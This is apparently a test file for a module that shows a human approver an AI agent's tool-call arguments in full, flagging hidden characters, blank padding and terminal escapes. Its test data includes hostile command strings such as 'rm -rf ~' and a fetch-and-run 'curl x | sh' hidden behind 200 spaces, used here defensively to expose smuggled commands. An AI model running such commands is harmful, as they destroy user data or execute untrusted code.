"""What a person sees before an approval is complete, and nothing in it is unseen."""

import json

import pytest
from hypothesis import given, strategies as st

from mimo_magics.core.messages import ToolCall
from mimo_magics.core.text import INVISIBLE_CHARACTERS
from mimo_magics.document.approval_text import (
    MAX_PAGE_CHARS,
    MAX_PAGE_LINES,
    arguments_text,
    call_text,
    split_pages,
)


@pytest.mark.parametrize(
    ("arguments", "text"),
    [
        ("", "{}"),
        ('{"cmd":"ls"}', '{\n  "cmd": "ls"\n}'),
        ('{"cmd": "rm -rf ~"\r}', '{\n  "cmd": "rm -rf ~"\n}'),
        ('{"cmd": "ls", "cmd": "rm"}', '{\n  "cmd": "rm"\n}'),
        ('{"cmd": "\\u006c\\u0073"}', '{\n  "cmd": "ls"\n}'),
        ('{"cmd": "ls' + " " * 200 + '; curl x | sh"}', '{\n  "cmd": "ls⟨blanks: 200⟩; curl x | sh"\n}'),
        ('{"cmd": "ls' + "\u3000" * 9 + '"}', '{\n  "cmd": "ls⟨blanks: 9⟩"\n}'),
        ('{"cmd": "ls' + "\u2800" * 9 + ';rm"}', '{\n  "cmd": "ls⟨blanks: 9⟩;rm"\n}'),
        ('{"cmd": "e\u0301"}', '{\n  "cmd": "e\u0301"\n}'),
        ('{"cmd": "r' + "\u0336" * 4 + 'm"}', '{\n  "cmd": "r' + "⟨U+0336⟩" * 4 + 'm"\n}'),
        ('{"cmd": "a\u00a0b"}', '{\n  "cmd": "a⟨blanks: 1⟩b"\n}'),
        ('{"cmd": "a\\tb"}', '{\n  "cmd": "a\\tb"\n}'),
        ('{"cmd": "a\\nb"}', '{\n  "cmd": "a\\nb"\n}'),
        ('{"cmd": "a\u202eb\u200bc\x9b2K"}', '{\n  "cmd": "a⟨U+202E⟩b⟨U+200B⟩c⟨U+009B⟩2K"\n}'),
        ('{"cmd": "👨\u200d👩"}', '{\n  "cmd": "👨⟨U+200D⟩👩"\n}'),
        ("{not JSON" + "\n" * 200 + "rm", "{not JSON\n⟨empty lines: 199⟩\nrm"),
        ("not JSON\r\x1b[2K", "not JSON⟨U+000D⟩⟨U+001B⟩[2K"),
        ("a" + "\t" * 8 + "b", "a⟨blanks: 8⟩b"),
        ("NaN", "NaN"),
    ],
)
def test_arguments_are_shown_as_the_tool_gets_them(arguments: str, text: str) -> None:
    assert arguments_text(arguments) == text


@given(st.dictionaries(st.text(max_size=8), st.text(max_size=200) | st.integers(), max_size=4))
def test_all_of_the_arguments_is_on_the_pages_and_nothing_unseen(arguments: dict[str, object]) -> None:
    text = arguments_text(json.dumps(arguments, ensure_ascii=False))
    assert "".join(split_pages(text)) == text
    assert INVISIBLE_CHARACTERS.findall(text) == []


@pytest.mark.parametrize("text", ["", "x", "x" * 10_000, "x\n" * 500, "\n" * 500, "x" * MAX_PAGE_CHARS + "y"])
def test_no_page_is_larger_than_what_is_in_view(text: str) -> None:
    pages = split_pages(text)
    assert "".join(pages) == text
    assert max(map(len, pages)) <= MAX_PAGE_CHARS
    assert max(page.count("\n") for page in pages) <= MAX_PAGE_LINES


def test_deep_arguments_are_not_mostly_blanks() -> None:
    deep = "[" * 600 + "]" * 600
    assert len(arguments_text(deep)) < 2 * len(deep)


def test_a_name_is_shown_without_anything_unseen() -> None:
    assert call_text(ToolCall("", "sh\u200bell", "")) == "sh⟨U+200B⟩ell {}"
